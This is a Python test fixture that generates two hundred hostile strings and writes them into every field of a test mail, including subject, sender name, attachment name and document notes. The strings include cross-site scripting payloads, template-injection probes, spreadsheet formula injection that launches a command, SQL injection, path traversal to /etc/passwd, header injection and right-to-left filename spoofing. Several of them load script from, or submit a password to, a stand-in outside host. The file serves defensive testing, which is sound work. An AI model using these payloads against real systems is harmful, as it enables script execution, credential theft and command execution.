"""Two hundred strings that a stranger may write into a subject, a name, a file name, a scan.

Made from what opens a tag, an attribute, a script, a template, a cell, a line or an eye; each in
the places where such a thing would break out.
"""

from dataclasses import replace
from itertools import islice, product

from inbox_daemon.core.values import Evidence
from tests.core import cases

MARK = "XQZ"
# What comes of 7919 times 7907 where a string was taken for a template.
FILLED = "62615533"
SCRIPTS = (
    f"<script>{MARK}()</script>",
    f"<ScRiPt src=//fremd.example/{MARK}.js></sCrIpT>",
    f"<img src=x onerror={MARK}()>",
    f"<svg onload={MARK}()>",
    f"<svg><script href='data:,{MARK}()'/></svg>",
    f"<body onload={MARK}()>",
    f"<iframe srcdoc='<script>{MARK}()</script>'></iframe>",
    f"<a href=javascript:{MARK}()>hier</a>",
    f"<form action=//fremd.example><input name=kennwort value={MARK}>",
    f"<button formaction=//fremd.example>{MARK}</button>",
    f"<meta http-equiv=refresh content='0;url=//fremd.example/{MARK}'>",
    f"<base href=//fremd.example/{MARK}/>",
    f"<link rel=stylesheet href=//fremd.example/{MARK}.css>",
    f"<style>*{{background:url(//fremd.example/{MARK})}}</style>",
    f"<object data=//fremd.example/{MARK}></object>",
    f"<math><mtext><style><img src=x onerror={MARK}()></style></mtext></math>",
    f"<details open ontoggle={MARK}()>",
    f"<x style=animation-name:a onanimationstart={MARK}()>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}()>'>",
    f"<template><script>{MARK}()</script></template>",
)
# What would end the place in which the string stands.
ENDINGS = ("", '"', "'", '">', "'>", "</title>", "</textarea>", "-->", "]]>", "\n")
OTHERS = (
    f'" onmouseover="{MARK}()" x="',
    f"' autofocus onfocus='{MARK}()' x='",
    f"` onclick=`{MARK}()`",
    f"javascript:{MARK}()",
    f"data:text/html,<script>{MARK}()</script>",
    "&lt;script&gt;XQZ()&lt;/script&gt;",
    "&#60;script&#62;XQZ()&#60;/script&#62;",
    "%3Cscript%3EXQZ()%3C/script%3E",
    "+ADw-script+AD4-XQZ()+ADw-/script+AD4-",
    "\uff1cscript\uff1eXQZ()\uff1c/script\uff1e",
    "\\u003cscript\\u003eXQZ()\\u003c/script\\u003e",
    "<scr\x00ipt>XQZ()</scr\x00ipt>",
    "<<script>XQZ()//<</script>",
    "{{ 7919 * 7907 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config }}{{ self.__init__.__globals__ }}",
    "{0}{person}{fall!r}{0.__class__}",
    "%s%n%(fall)s",
    "${7919*7907}#{7919*7907}<%= 7919*7907 %>",
    '=HYPERLINK("//fremd.example";"XQZ")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    "Antrag\u202efdp.exe",
    "\u2066\u2067\u2068geheim\u2069",
    "\u200b\u200d\ufeff\u00ad",
    "\x1b[31mrot\x1b[0m\x07\x08",
    "Zeile\r\nSet-Cookie: x=XQZ",
    "a" * 3000,
    "\u0301" * 500,
    "<" * 500,
    "&" * 500,
    "'" * 200 + '"' * 200,
    "'; DROP TABLE cases; --",
    "../../../etc/passwd",
    "//fremd.example/XQZ",
    "\\\\fremd.example\\XQZ",
    "<!--",
    "<![CDATA[",
    "<?xml version='1.0'?>",
)  # fmt: skip


def strings() -> tuple[str, ...]:
    """The two hundred, always the same."""
    broken_out = (end + script for end, script in product(ENDINGS, SCRIPTS))
    return (*OTHERS, *islice(broken_out, 200 - len(OTHERS)))


def evidence_saying(text: str) -> Evidence:
    """A mail that says this wherever a stranger may say something."""
    address = replace(cases.address(), name=text)
    attachment = replace(cases.attachment(), name=text, claimed_type=text)
    submission = cases.mail(
        subject=text,
        from_=(address,),
        reply_to=(replace(address, addr="fremd@fremd.example"),),
        text=f"{text}\n{text}",
        date_claimed=text,
        received_claimed=text,
        attachments=(attachment,),
        spam=(f"x-spam: {text}",),
        automatic=(),
    )
    document = cases.document(
        name=text, applicant=cases.read(text), amount=cases.unreadable(), notes=()
    )
    return cases.good_evidence(submission=submission, documents=(document,))
